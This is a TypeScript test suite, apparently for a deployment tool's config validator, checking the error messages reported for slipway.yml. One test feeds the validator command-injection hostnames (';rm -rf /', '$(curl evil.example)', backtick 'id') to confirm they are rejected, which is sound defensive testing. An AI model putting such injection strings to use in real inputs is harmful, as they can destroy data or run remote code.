/** Every problem in slipway.yml is reported with its exact place, message and hint. */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { loadConfig } from "../../../src/config/index.ts";
import { ConfigError, UserError } from "../../../src/errors/index.ts";
import { brief, fixture, issuesOf, load, MINIMAL, onlyIssue, yaml } from "./helpers.ts";

describe("YAML errors", () => {
  it("reports a syntax error with its line and column", async () => {
    const issue = await onlyIssue({
      "slipway.yml": yaml`
service: hello
image: hello
servers:
  web:
    hosts: [127.0.0.1]
  worker:
    cmd: bin/worker --queue: default
`,
    });
    assert.deepEqual(issue, {
      file: "slipway.yml",
      line: 7,
      column: 10,
      path: "",
      message: "YAML syntax error: nested mappings are not allowed in compact mappings",
      hint: 'quote a value that contains ": ", e.g. cmd: "echo a: b"',
    });
  });

  it("reports tabs used for indentation", async () => {
    const issue = await onlyIssue({ "slipway.yml": `${MINIMAL}ssh:\n\tport: 22\n` });
    assert.deepEqual(
      [issue.line, issue.column, issue.message, issue.hint],
      [
        8,
        1,
        "YAML syntax error: tabs are not allowed as indentation",
        "indent with spaces, not tabs",
      ],
    );
  });

  it("reports a duplicate key at the second occurrence, naming the first", async () => {
    const issue = await onlyIssue({
      "slipway.yml": yaml`
service: hello
image: hello
servers:
  web: [127.0.0.1]
ssh:
  port: 2222
  user: deploy
  port: 22
`,
    });
    assert.deepEqual(issue, {
      file: "slipway.yml",
      line: 8,
      column: 3,
      path: "ssh.port",
      message: 'duplicate key "port" (first defined on line 6)',
      hint: "a key may appear only once in a map: remove or merge one of them",
    });
  });

  it("says an empty file is empty", async () => {
    const issue = await onlyIssue({ "slipway.yml": "# nothing yet\n" });
    assert.deepEqual(brief([issue]), ["slipway.yml:1:1 : slipway.yml is empty"]);
  });

  it("throws a UserError, not a ConfigError, when the file does not exist", async () => {
    const cwd = await fixture({});
    await assert.rejects(loadConfig({ cwd }), (error: unknown) => {
      assert.ok(error instanceof UserError);
      assert.equal(error.message, "slipway.yml not found");
      assert.equal(error.code, "config.unreadable");
      return true;
    });
  });
});

describe("unknown and missing keys", () => {
  it("suggests the key a typo was meant to be, at the key's position", async () => {
    const issue = await onlyIssue({
      "slipway.yml": yaml`
service: hello
image: hello
servrs:
  web: [127.0.0.1]
`,
    });
    // The missing "servers" is not reported separately: the suggestion already fixes it.
    assert.deepEqual(issue, {
      file: "slipway.yml",
      line: 3,
      column: 1,
      path: "servrs",
      message: 'unknown key "servrs"',
      hint: 'did you mean "servers"?',
    });
  });

  it("suggests by common prefix, and lists the valid keys when nothing is close", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
${MINIMAL.trimEnd()}
proxy:
  health:
    path: /up
  colour: blue
`,
    });
    assert.deepEqual(
      issues.map((i) => [i.line, i.column, i.path, i.message, i.hint]),
      [
        [8, 3, "proxy.health", 'unknown key "health"', 'did you mean "healthcheck"?'],
        [
          10,
          3,
          "proxy.colour",
          'unknown key "colour"',
          "valid keys here: domains, app_port, image, drain_timeout, healthcheck, max_body_size, rate_limit, tls, hsts, csp, trusted_proxies",
        ],
      ],
    );
  });

  it("finds the keys of a role written as a map", async () => {
    const issue = await onlyIssue({
      "slipway.yml": yaml`
service: hello
image: hello
servers:
  web:
    hosts: [127.0.0.1]
    singelton: true
`,
    });
    assert.deepEqual(brief([issue]), [
      'slipway.yml:6:5 servers.web.singelton: unknown key "singelton"',
    ]);
    assert.equal(issue.hint, 'did you mean "singleton"?');
  });

  it("points a missing required key at the map that should hold it", async () => {
    const issue = await onlyIssue({
      "slipway.yml": yaml`
service: hello
image: hello
servers:
  web:
    cmd: bin/web
`,
    });
    assert.deepEqual(issue, {
      file: "slipway.yml",
      line: 5,
      column: 5,
      path: "servers.web.hosts",
      message: 'missing required key "hosts"',
      hint: 'add "hosts:" here (hostnames or IP addresses this role runs on)',
    });
  });
});

describe("all issues at once", () => {
  it("reports every problem of the file, sorted by line", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
service: Hello_App
image: hello
servers:
  web:
    hosts: [127.0.0.1, 127.0.0.1]
ssh:
  port: "22"
  connect_timeout: 30
proxy:
  app_port: 0
  max_body_size: 10 megs
releases:
  keep: 0
`,
    });
    assert.deepEqual(brief(issues), [
      'slipway.yml:1:10 service: service name "Hello_App" must be lowercase letters, digits and dashes, starting with a letter',
      'slipway.yml:5:24 servers.web.hosts[1]: host "127.0.0.1" is listed twice',
      'slipway.yml:7:9 ssh.port: expected a port like 22, got "22"',
      'slipway.yml:8:20 ssh.connect_timeout: expected a duration like "30s", got 30',
      "slipway.yml:10:13 proxy.app_port: port 0 is out of range: ports are whole numbers from 1 to 65535",
      'slipway.yml:11:18 proxy.max_body_size: invalid size "10 megs": write a whole number and a unit, like 512mb, 1gb or 10k',
      "slipway.yml:13:9 releases.keep: must be at least 1, got 0",
    ]);
    for (const issue of issues) assert.notEqual(issue.hint, "", `${issue.path} has a hint`);
    assert.equal(issues[3]?.hint, "connect_timeout: how long to wait for a connection");
  });

  it("formats the thrown error for one issue like a compiler", async () => {
    const cwd = await fixture({ "slipway.yml": `${MINIMAL}rolling:\n  limit: 0\n` });
    await assert.rejects(loadConfig({ cwd }), (error: unknown) => {
      assert.ok(error instanceof ConfigError);
      assert.equal(error.message, "slipway.yml:8:10: rolling.limit: must be at least 1, got 0");
      assert.equal(error.exitCode, 2);
      return true;
    });
  });

  it("keeps the file name as the user typed it", async () => {
    const cwd = await fixture({ "deploy/app.yml": `${MINIMAL}rolling:\n  limit: 0\n` });
    await assert.rejects(loadConfig({ cwd, file: "deploy/app.yml" }), (error: ConfigError) => {
      assert.equal(error.issues[0]?.file, "deploy/app.yml");
      return true;
    });
  });
});

describe("value checks", () => {
  const withLine7 = (line7: string) => ({ "slipway.yml": `${MINIMAL}${line7}\n` });

  it("rejects durations without a unit or in words", async () => {
    const issue = await onlyIssue({
      "slipway.yml": `${MINIMAL}proxy:\n  healthcheck:\n    interval: thirty seconds\n`,
    });
    assert.deepEqual(issue, {
      file: "slipway.yml",
      line: 9,
      column: 15,
      path: "proxy.healthcheck.interval",
      message:
        'invalid duration "thirty seconds": write a whole number and a unit, like 500ms, 30s, 5m, 1h or 2d',
      hint: "units: ms (milliseconds), s (seconds), m (minutes), h (hours), d (days), e.g. 500ms, 30s, 5m, 1h or 2d",
    });
  });

  it("rejects bad sizes", async () => {
    const issue = await onlyIssue({
      "slipway.yml": yaml`
service: hello
image: hello
servers:
  web:
    hosts: [127.0.0.1]
    options: { memory: 512 MB }
`,
    });
    assert.deepEqual(brief([issue]), [
      'slipway.yml:6:24 servers.web.options.memory: invalid size "512 MB": write a whole number and a unit, like 512mb, 1gb or 10k',
    ]);
  });

  it("rejects bad cron expressions, saying what is wrong", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
${MINIMAL.trimEnd()}
cron:
  report:
    schedule: "0 3 * *"
    command: bin/report
  cleanup:
    schedule: "0 25 * * *"
    command: bin/cleanup
  digest:
    schedule: "@reboot"
    command: bin/digest
`,
    });
    assert.deepEqual(brief(issues), [
      'slipway.yml:9:15 cron.report.schedule: cron expression "0 3 * *" has 4 fields, it needs 5',
      'slipway.yml:12:15 cron.cleanup.schedule: cron expression "0 25 * * *": hour 25 is out of range 0-23',
      'slipway.yml:15:15 cron.digest.schedule: unknown cron nickname "@reboot"',
    ]);
    assert.match(issues[0]?.hint ?? "", /five fields "minute hour day-of-month month day-of-week"/);
  });

  it("passes cron through croner for what plain ranges do not catch", async () => {
    const issues = await issuesOf({
      "slipway.yml": `${MINIMAL}cron:\n  x:\n    schedule: "*/5 * * * funday"\n    command: bin/x\n`,
    });
    assert.match(
      brief(issues)[0] ?? "",
      /^slipway\.yml:9:15 cron\.x\.schedule: invalid cron expression "\*\/5 \* \* \* funday": /,
    );
  });

  it("rejects ports out of range and non-integers", async () => {
    const issues = await issuesOf({
      "slipway.yml": `${MINIMAL}ssh:\n  port: 65536\nproxy:\n  app_port: 80.5\n`,
    });
    assert.deepEqual(brief(issues), [
      "slipway.yml:8:9 ssh.port: port 65536 is out of range: ports are whole numbers from 1 to 65535",
      "slipway.yml:10:13 proxy.app_port: expected a port like 22, got 80.5",
    ]);
  });

  it("rejects invalid hostnames and IP addresses", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
service: hello
image: hello
servers:
  web:
    - app_1.example.com
    - -app.example.com
    - 300.1.2.3
    - deploy@app.example.com
    - app..example.com
    - 2001:db8::1
`,
    });
    assert.deepEqual(brief(issues), [
      'slipway.yml:5:7 servers.web[0]: host "app_1.example.com" contains "_", which is not allowed in a hostname',
      'slipway.yml:6:7 servers.web[1]: host "-app.example.com" has a label that starts or ends with "-"',
      'slipway.yml:7:7 servers.web[2]: host "300.1.2.3" is not a valid IP address',
      'slipway.yml:8:7 servers.web[3]: host "deploy@app.example.com" contains "@", which is not allowed in a hostname',
      'slipway.yml:9:7 servers.web[4]: host "app..example.com" has an empty label (two dots in a row, or a dot at an end)',
    ]);
    assert.equal(issues[3]?.hint, "put the SSH user in ssh.user, not in the host");
  });

  it("rejects hosts with shell metacharacters, naming the character", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
service: hello
image: hello
servers:
  web:
    hosts:
      - "app1.example.com;rm -rf /"
      - "$(curl evil.example)"
      - "app\`id\`"
      - "app1 app2"
`,
    });
    assert.deepEqual(brief(issues), [
      'slipway.yml:6:9 servers.web.hosts[0]: host "app1.example.com;rm -rf /" contains ";", which is not allowed in a hostname',
      'slipway.yml:7:9 servers.web.hosts[1]: host "$(curl evil.example)" contains "$", which is not allowed in a hostname',
      'slipway.yml:8:9 servers.web.hosts[2]: host "app`id`" contains "`", which is not allowed in a hostname',
      'slipway.yml:9:9 servers.web.hosts[3]: host "app1 app2" contains a space, which is not allowed in a hostname',
    ]);
    assert.equal(
      issues[0]?.hint,
      "hosts end up in ssh and proxy configuration; write a plain hostname (app1.example.com) or an IP address (203.0.113.10)",
    );
  });

  it("checks names, env names, images, enums and the clear/secret overlap", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
service: hello
image: Hello:latest
servers:
  Web: [127.0.0.1]
env:
  clear:
    NODE_ENV: production
    2FA_KEY: x
  secret: [NODE_ENV]
`,
      ".slipway/secrets": "NODE_ENV=production\n",
    });
    assert.deepEqual(brief(issues), [
      'slipway.yml:2:8 image: invalid image reference "Hello:latest": use lowercase names separated by "/", with an optional :tag',
      'slipway.yml:4:3 servers.Web: role name "Web" must be lowercase letters, digits and dashes, starting with a letter',
      'slipway.yml:8:5 env.clear.2FA_KEY: "2FA_KEY" is not a valid environment variable name: use letters, digits and "_", not starting with a digit',
      'slipway.yml:9:12 env.secret[0]: "NODE_ENV" is in both env.clear and env.secret',
    ]);
  });

  it("says which types were expected when a value has the wrong shape", async () => {
    const issues = await issuesOf(withLine7("proxy: [a, b]"));
    assert.deepEqual(brief(issues), ["slipway.yml:7:8 proxy: expected a map, got a list"]);
    const role = await issuesOf({
      "slipway.yml": "service: a\nimage: a\nservers:\n  web: 127.0.0.1\n",
    });
    assert.deepEqual(brief(role), [
      'slipway.yml:4:8 servers.web: expected a list or a map, got "127.0.0.1"',
    ]);
  });

  it("requires one host for a singleton role", async () => {
    const issue = await onlyIssue({
      "slipway.yml": yaml`
service: hello
image: hello
servers:
  worker:
    hosts: [10.0.0.1, 10.0.0.2]
    singleton: true
`,
    });
    assert.deepEqual(brief([issue]), [
      "slipway.yml:5:12 servers.worker.hosts: a singleton role runs on exactly one host, but 2 are listed",
    ]);
  });
});

describe("backups", () => {
  const RECIPIENT = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p";
  const APP = yaml`
service: hello
image: hello
servers:
  web:
    hosts: [127.0.0.1]
    volumes: ["data:/app/data"]
accessories:
  db: { engine: postgres }
  queue: { engine: generic, image: nats }
`;

  it("names each wrong target at its line: accessory, engine, volume, file, role, two kinds", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
${APP.trimEnd()}
backups:
  store: /var/backups/slipway
  recipients: [${RECIPIENT}]
  targets:
    cache: {}
    queue: { keep: { last: 0 } }
    files: { volume: uploads }
    app: { sqlite: /srv/hello.db }
    both: { volume: data, config: true }
    other: { volume: data, role: worker }
    db: { host: 127.0.0.1, verify: weekly }
`,
    });
    assert.deepEqual(brief(issues), [
      'slipway.yml:14:12 backups.targets.cache: backup target "cache" is accessory "cache", which accessories does not define',
      "slipway.yml:15:12 backups.targets.queue: accessory queue is generic: Slipway does not know how to dump it consistently",
      "slipway.yml:15:28 backups.targets.queue.keep.last: must be at least 1, got 0",
      'slipway.yml:16:22 backups.targets.files.volume: no role has a volume "uploads"',
      "slipway.yml:17:20 backups.targets.app.sqlite: /srv/hello.db is on no volume of a role: it would go with its container",
      "slipway.yml:18:35 backups.targets.both.config: a backup target is one of accessory, volume, sqlite, config, not volume and config",
      'slipway.yml:19:34 backups.targets.other.role: backup target "other" names role "worker", which servers does not define',
      "slipway.yml:20:17 backups.targets.db.host: an accessory's backup runs on the accessory's host",
      'slipway.yml:20:36 backups.targets.db.verify: cron expression "weekly" has 1 field, it needs 5',
    ]);
  });

  it("takes an InfluxDB accessory as a target like the others (dumped with influx backup)", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
${APP.trimEnd()}
  metrics: { engine: influxdb }
backups:
  store: /var/backups/slipway
  recipients: [${RECIPIENT}]
  targets:
    metrics: {}
    queue: {}
`,
    });
    assert.deepEqual(brief(issues), [
      "slipway.yml:16:12 backups.targets.queue: accessory queue is generic: Slipway does not know how to dump it consistently",
    ]);
  });

  it("wants an S3 store's keys as secret names, and recipients or a passphrase", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
${APP.trimEnd()}
backups:
  store: s3://Backups
  recipients: [AGE-SECRET-KEY-1QQQ]
  passphrase: BACKUP_PASSPHRASE
  targets: { db: {} }
`,
    });
    assert.deepEqual(
      issues.map((i) => `${i.line}:${i.column} ${i.path}: ${i.message} | ${i.hint}`),
      [
        '11:10 backups.store: "s3://Backups" is not an S3 URL with a valid bucket name | write "s3://BUCKET/PREFIX" (with backups.s3 for its endpoint and keys) or an absolute folder on the host, like "/var/backups/slipway"',
        "11:10 backups.store: an s3:// store needs backups.s3 (its credentials) | add s3: { endpoint: https://..., access_key_id: S3_ACCESS_KEY_ID, secret_access_key: S3_SECRET_ACCESS_KEY } with the keys in .slipway/secrets",
        "12:15 backups.recipients: backups are encrypted to recipients or with a passphrase: give exactly one | make a key pair with age-keygen -o backup.key and list its public key: recipients: [age1...]",
        "12:16 backups.recipients[0]: this is an age identity (a SECRET key), not a recipient | give the public key: age-keygen -y key.txt prints it; the secret key never goes in slipway.yml",
        '13:15 backups.passphrase: secret "BACKUP_PASSPHRASE" is not set: looked in .slipway/secrets (no such file) | add the line BACKUP_PASSPHRASE=<value> to .slipway/secrets',
      ],
    );
    const s3 = await issuesOf({
      "slipway.yml": yaml`
${APP.trimEnd()}
backups:
  store: s3://backups/hello
  recipients: [${RECIPIENT}]
  targets: { db: {} }
`,
    });
    assert.deepEqual(brief(s3), [
      "slipway.yml:11:10 backups.store: an s3:// store needs backups.s3 (its credentials)",
    ]);
  });

  it("resolves targets with their defaults, an accessory by the target's name", async () => {
    const { config, secrets } = await load({
      "slipway.yml": yaml`
${APP.trimEnd()}
backups:
  store: s3://backups/hello
  s3: { endpoint: "http://127.0.0.1:9000", access_key_id: S3_KEY, secret_access_key: S3_SECRET }
  recipients: [${RECIPIENT}]
  targets:
    db: { schedule: "@hourly", keep: { last: 3, yearly: 2 }, verify: false }
    files: { volume: data, grace: 2h }
    state: { config: true }
`,
      ".slipway/secrets": "S3_KEY=key-id\nS3_SECRET=secret-value\n",
      ".gitignore": ".slipway/secrets\n",
    });
    assert.deepEqual(config.backups, {
      store: "s3://backups/hello",
      s3: {
        endpoint: "http://127.0.0.1:9000",
        region: "us-east-1",
        access_key_id: "S3_KEY",
        secret_access_key: "S3_SECRET",
      },
      recipients: [RECIPIENT],
      compression: "zstd",
      targets: {
        db: {
          accessory: "db",
          schedule: "@hourly",
          keep: { last: 3, daily: 7, weekly: 4, monthly: 6, yearly: 2 },
          verify: false,
          grace: 3_600_000,
          timeout: 21_600_000,
        },
        files: {
          volume: "data",
          schedule: "0 3 * * *",
          keep: { last: 7, daily: 7, weekly: 4, monthly: 6, yearly: 0 },
          verify: "0 4 * * 0",
          grace: 7_200_000,
          timeout: 21_600_000,
        },
        state: {
          config: true,
          schedule: "0 3 * * *",
          keep: { last: 7, daily: 7, weekly: 4, monthly: 6, yearly: 0 },
          verify: "0 4 * * 0",
          grace: 3_600_000,
          timeout: 21_600_000,
        },
      },
    });
    assert.equal(secrets.values.get("S3_SECRET"), "secret-value");
  });
});

describe("cron", () => {
  it("names each wrong job setting at its line: role, command, timeout, missed, an unknown key", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
${MINIMAL.trimEnd()}
cron:
  report:
    schedule: "0 3 * * *"
    command: bin/report && bin/mail
    role: worker
  cleanup:
    schedule: "@daily"
    command: [bin/cleanup]
    timeout: 10 minutes
    missed: catch_up
    jiter: 30s
  Digest:
    schedule: "@hourly"
    command: bin/digest
`,
    });
    assert.deepEqual(brief(issues), [
      'slipway.yml:10:14 cron.report.command: command "bin/report && bin/mail" has the shell operator "&&"',
      'slipway.yml:11:11 cron.report.role: cron job "report" runs in role "worker", which servers does not define',
      'slipway.yml:15:14 cron.cleanup.timeout: invalid duration "10 minutes": write a whole number and a unit, like 500ms, 30s, 5m, 1h or 2d',
      'slipway.yml:16:13 cron.cleanup.missed: must be one of skip, run_once, got "catch_up"',
      'slipway.yml:17:5 cron.cleanup.jiter: unknown key "jiter"',
      'slipway.yml:18:3 cron.Digest: job name "Digest" must be lowercase letters, digits and dashes, starting with a letter',
    ]);
  });

  it("takes a job with only schedule and command: the first role, an hour's timeout, no jitter, skip", async () => {
    const loaded = await load({
      "slipway.yml": `${MINIMAL}cron:\n  report:\n    schedule: "0 3 * * *"\n    command: bin/report --all\n`,
    });
    assert.deepEqual(loaded.config.cron, {
      report: {
        schedule: "0 3 * * *",
        command: ["bin/report", "--all"],
        timeout: 3_600_000,
        jitter: 0,
        missed: "skip",
      },
    });
  });
});

describe("monitoring", () => {
  it("names each wrong check at its line: no kind or two, a host or peer check's name, a name twice", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
${MINIMAL.trimEnd()}
monitoring:
  checks:
    - { name: both, url: "http://x/", tcp: "x:1" }
    - { name: none }
    - { name: host-cpu, tcp: "x:1" }
    - { name: twice, tls: "example.com:443" }
    - { name: twice, tcp: "x:2", keyword: up }
    - { name: peer-box-b, tcp: "x:3" }
`,
    });
    assert.deepEqual(
      issues.map((i) => `${i.line} ${i.path} ${i.message}`),
      [
        "9 monitoring.checks[0].url a check needs exactly one of url (HTTP), tcp or tls (HOST:PORT), dns (a name), heartbeat (a period)",
        "10 monitoring.checks[1].url a check needs exactly one of url (HTTP), tcp or tls (HOST:PORT), dns (a name), heartbeat (a period)",
        "11 monitoring.checks[2].name host-cpu is a name of the host checks (host-cpu, host-memory, host-disk, host-load)",
        "13 monitoring.checks[4].name two checks are named twice",
        "13 monitoring.checks[4].keyword keyword is for HTTP checks",
        "14 monitoring.checks[5].name peer-box-b: peer-<host> names the checks agents make of the app's other hosts",
      ],
    );
  });
});

describe("accessories", () => {
  it("names each wrong setting at its line, with a hint", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
${MINIMAL.trimEnd()}
accessories:
  db:
    engine: postgres
    publish: "localhost:5432"
    volume: "db-data:/var/lib/postgresql/data"
    tuning:
      shared_buffer: 256MB
    cmd: postgres -c fsync=off
  cache:
    engine: redis
    port: 6380
    publish: 70000
  queue:
    engine: generic
    url_env: QUEUE_URL
    volume: queue-data
    tuning: { x: 1 }
    publish: 4222
  cache2:
    engine: redis
    url_env: CACHE2_URL
    healthcheck: redis-cli ping
`,
    });
    const shown = issues.map((i) => `${i.line} ${i.path} ${i.message} | ${i.hint}`);
    assert.deepEqual(
      shown.filter((s) => !s.includes("not supported yet")),
      [
        '10 accessories.db.publish "localhost" is not an IP address | write a port (published on 127.0.0.1), or "ADDRESS:PORT" like "10.0.0.5:5432" for a private network',
        "11 accessories.db.volume postgres keeps its data in a known place | write only the volume name or host path",
        '13 accessories.db.tuning.shared_buffer postgres has no tuning setting "shared_buffer" | did you mean "shared_buffers"?',
        "14 accessories.db.cmd postgres's command is Slipway's (it carries the tuning) | use tuning for its settings",
        "17 accessories.cache.port redis listens on its own port | remove port; use publish to reach it from outside",
        "18 accessories.cache.publish port 70000 is out of range: ports are whole numbers from 1 to 65535 | common ports: 22 (ssh), 80 (http), 443 (https), 3000 or 8000 (apps)",
        '20 accessories.queue.engine a generic accessory needs an image | add image: with the image to run, e.g. image: "nats:2"',
        "21 accessories.queue.url_env a generic accessory has no connection URL | put its address in env.clear of the app instead",
        '22 accessories.queue.volume a generic accessory\'s volume needs its path in the container | write "NAME:/path/in/container"',
        "23 accessories.queue.tuning a generic accessory has no tuning | pass settings through cmd or env",
        "24 accessories.queue.publish a published generic accessory needs the port it listens on | add port: with the port inside its container, e.g. port: 4222",
        "28 accessories.cache2.healthcheck redis has its own health check | remove healthcheck; it is for generic accessories",
      ],
    );
  });

  it("refuses a URL variable two accessories, or an accessory and env, would both set", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
${MINIMAL.trimEnd()}
accessories:
  db:
    engine: postgres
  old-db:
    engine: mariadb
  cache:
    engine: redis
env:
  clear:
    REDIS_URL: redis://elsewhere:6379
`,
    });
    assert.deepEqual(
      issues.map((i) => `${i.line} ${i.path} ${i.message} | ${i.hint}`),
      [
        "11 accessories.old-db.engine accessories db and old-db would both set DATABASE_URL | give one of them another name: url_env: OLD_DB_URL",
        "13 accessories.cache.engine accessory cache sets REDIS_URL in the app's env, which env also sets | remove REDIS_URL from env, or set url_env: false (or another name) for cache",
      ],
    );
  });

  it("a role's volume must say where it goes in the container", async () => {
    const issues = await issuesOf({
      "slipway.yml": yaml`
service: hello
image: hello
servers:
  web:
    hosts: [127.0.0.1]
    volumes: [data, "x y:/data", "data:relative"]
`,
    });
    assert.deepEqual(
      issues.map((i) => `${i.line} ${i.path} ${i.message}`),
      [
        '6 servers.web.volumes[0] "data" does not say where it goes in the container',
        '6 servers.web.volumes[1] "x y" is neither a volume name nor an absolute path',
        '6 servers.web.volumes[2] container path "relative" is not absolute',
      ],
    );
  });
});
